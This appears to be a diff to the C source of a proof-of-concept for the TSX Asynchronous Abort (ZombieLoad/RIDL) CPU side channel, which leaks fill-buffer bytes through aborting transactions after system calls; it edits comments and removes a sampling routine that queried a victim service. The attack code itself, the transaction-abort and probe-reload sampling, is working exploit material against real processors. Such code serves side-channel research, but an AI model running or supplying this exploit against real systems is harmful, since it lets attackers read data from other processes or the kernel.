@@ -1,7 +1,8 @@
 /*
  * TSX asynchronous abort (Schwarz et al., "ZombieLoad", 2019, variant 2; van Schaik et al., "RIDL",
- * addendum): loads of a transaction that aborts asynchronously receive bytes of the fill buffers, as
- * faulting ones do elsewhere. The page that is loaded from is the process's own and permitted.
+ * addendum): loads that have not completed when their transaction aborts asynchronously receive bytes
+ * of the fill buffers, as faulting ones do elsewhere. What is loaded is the process's own; its line is
+ * flushed, so that the loads wait.
  */
 #include "buffers.h"
 
@@ -18,9 +19,7 @@ static int has_transactions(void)
 	return __get_cpuid_count(7, 0, &eax, &ebx, &ecx, &edx) && ebx & RTM;
 }
 
-/*
- * A system call, then a transaction that aborts, because a line that it reads is being flushed.
- */
+/* A system call, then a transaction that aborts. */
 static void call_and_sample(long number, long first, const void *second, long third, int index)
 {
 	register const uint8_t *address_register __asm__("r9") = own + place_of_load(index);
@@ -41,20 +40,6 @@ static void call_and_sample(long number, long first, const void *second, long th
 		: "rax", "rcx", "r11", "memory", "cc");
 }
 
-static int sample(int index)
-{
-	uint8_t answer;
-
-	prepare_use(index);
-	if (options.call) {
-		call_and_sample(options.call, 0, NULL, 0, index);
-	} else {
-		send_guess(index);
-		call_and_sample(SYS_read, answers_of_service, &answer, 1, index);
-	}
-	return reload_probe(probe);
-}
-
 int main(int argc, char **argv)
 {
 	static uint8_t page[PAGE_BYTES + LINE_BYTES] __attribute__((aligned(PAGE_BYTES)));
@@ -73,6 +58,6 @@ int main(int argc, char **argv)
 	memset(elsewhere, 1, sizeof(elsewhere));
 	memset(page, 1, sizeof(page));
 	own = page;
-	recover_in_order(sample);
+	recover_in_order();
 	return 0;
 }
